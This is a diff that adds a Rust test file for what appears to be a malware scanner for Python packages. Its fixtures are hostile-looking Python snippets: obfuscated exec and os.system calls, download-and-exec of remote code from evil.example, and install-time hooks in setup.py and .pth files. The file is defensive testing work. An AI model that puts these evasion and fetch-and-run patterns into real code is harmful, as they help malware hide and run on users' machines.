@@ -1,0 +1,112 @@
+use crate::*;
+
+fn facts(src: &str) -> FileFacts {
+    analyze("pkg/mod.py", src.as_bytes(), FileRole::Module)
+}
+
+fn call_names(f: &FileFacts) -> Vec<&str> {
+    f.calls.iter().map(|c| c.name.as_str()).collect()
+}
+
+#[test]
+fn aliases_resolve() {
+    let f = facts(
+        "import subprocess as sp\nfrom os import system as s\nx = __import__('os')\nimport importlib\ny = importlib.import_module('socket')\nsp.Popen('id')\ns('id')\nx.popen('id')\ny.socket()\n",
+    );
+    let names = call_names(&f);
+    for want in ["subprocess.Popen", "os.system", "os.popen", "socket.socket"] {
+        assert!(names.contains(&want), "{want} not in {names:?}");
+    }
+}
+
+#[test]
+fn builtins_through_getattr_and_globals() {
+    let f = facts("getattr(__builtins__, 'ex' + 'ec')('1')\nglobals()['__builtins__'].eval('2')\n__import__('builtins').compile('x', 'y', 'exec')\n");
+    let names = call_names(&f);
+    for want in ["builtins.exec", "builtins.eval", "builtins.compile"] {
+        assert!(names.contains(&want), "{want} not in {names:?}");
+    }
+}
+
+#[test]
+fn strings_fold_from_pieces() {
+    let f = facts(
+        "a = 'htt' + 'ps://evil.example/x'\nb = ''.join([chr(104), chr(105)])\nc = 'moc.live'[::-1]\nd = bytes.fromhex('6869').decode()\ne = ''.join(map(chr, [111, 115]))\nf = ''.join(chr(c) for c in [97, 98])\n",
+    );
+    let values: Vec<&str> = f.strings.iter().map(|s| s.value.as_str()).collect();
+    assert!(values.contains(&"https://evil.example/x"), "{values:?}");
+    let folded: Vec<&str> = f.strings.iter().filter(|s| s.folded).map(|s| s.value.as_str()).collect();
+    assert!(folded.contains(&"evil.com"), "{values:?}");
+    // short folded strings are below the string-fact threshold, but fold as arguments:
+    let g = facts("import os\nos.system(''.join(map(chr, [105, 100, 32, 45, 97])))\n");
+    assert_eq!(g.calls.iter().find(|c| c.name == "os.system").unwrap().args[0].text().as_deref(), Some("id -a"));
+}
+
+#[test]
+fn obfuscated_chr_via_builtin_reprs() {
+    // prompt-tookit style: getattr(__builtins__, 'chr') spelled from reprs of builtins.
+    let src = "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [119, 105, 110, 51, 50]))\n";
+    let f = facts(src);
+    assert!(f.strings.iter().any(|s| s.value == "win32"), "{:?}", f.strings);
+}
+
+#[test]
+fn arguments_remember_their_sources() {
+    let f = facts("import base64, requests\np = base64.b64decode('aGk=')\nexec(p)\nr = requests.get('http://x')\nexec(r.text)\n");
+    let execs: Vec<&Call> = f.calls_named("builtins.exec").collect();
+    assert_eq!(execs.len(), 2);
+    assert!(execs[0].args[0].from_call(|c| c == "base64.b64decode"));
+    assert!(execs[1].args[0].from_call(|c| c == "requests.get"));
+}
+
+#[test]
+fn triggers_follow_where_code_runs() {
+    let f = facts("import os\nos.system('a')\ndef f():\n    os.system('b')\ndef g():\n    os.system('c')\ng()\nif __name__ == '__main__':\n    os.system('d')\n");
+    let t: Vec<(String, Trigger)> =
+        f.calls_named("os.system").map(|c| (c.args[0].text().unwrap(), c.trigger)).collect();
+    assert_eq!(
+        t,
+        vec![
+            ("a".into(), Trigger::Import),
+            ("b".into(), Trigger::Runtime),
+            ("c".into(), Trigger::Import),
+            ("d".into(), Trigger::Runtime)
+        ]
+    );
+    let s = analyze("setup.py", b"def f():\n    import os\n    os.system('x')\n", FileRole::SetupPy);
+    assert_eq!(s.calls[0].trigger, Trigger::Install);
+}
+
+#[test]
+fn python2_falls_back_to_tokens() {
+    let src = "import urllib2\nprint \"hi\"\nexec \"import os\"\nurllib2.urlopen('http://evil.example/p').read()\n";
+    let f = facts(src);
+    assert!(matches!(f.status, ParseStatus::Recovered { .. } | ParseStatus::Tokens { .. }));
+    let names = call_names(&f);
+    assert!(names.contains(&"urllib2.urlopen"), "{names:?}");
+    assert!(names.contains(&"builtins.exec"), "{names:?}");
+}
+
+#[test]
+fn hostile_nesting_is_bounded() {
+    let deep = format!("x = {}1{}\nimport os\nos.system('id')\n", "(".repeat(100_000), ")".repeat(100_000));
+    let f = facts(&deep);
+    assert!(matches!(f.status, ParseStatus::Tokens { .. }));
+    assert!(call_names(&f).contains(&"os.system"));
+    let chain = format!("x = 1{}\n", "+1".repeat(50_000));
+    let f = std::thread::Builder::new()
+        .stack_size(256 << 20)
+        .spawn(move || analyze("m.py", chain.as_bytes(), FileRole::Module))
+        .unwrap()
+        .join()
+        .unwrap();
+    assert!(f.truncated);
+}
+
+#[test]
+fn pth_runs_only_import_lines() {
+    let f = analyze("x.pth", b"/some/path\nimport os; os.system('id')\n", FileRole::Pth);
+    assert_eq!(f.calls[0].name, "os.system");
+    assert_eq!(f.calls[0].trigger, Trigger::Install);
+    assert_eq!(f.calls[0].span.line, 2);
+}
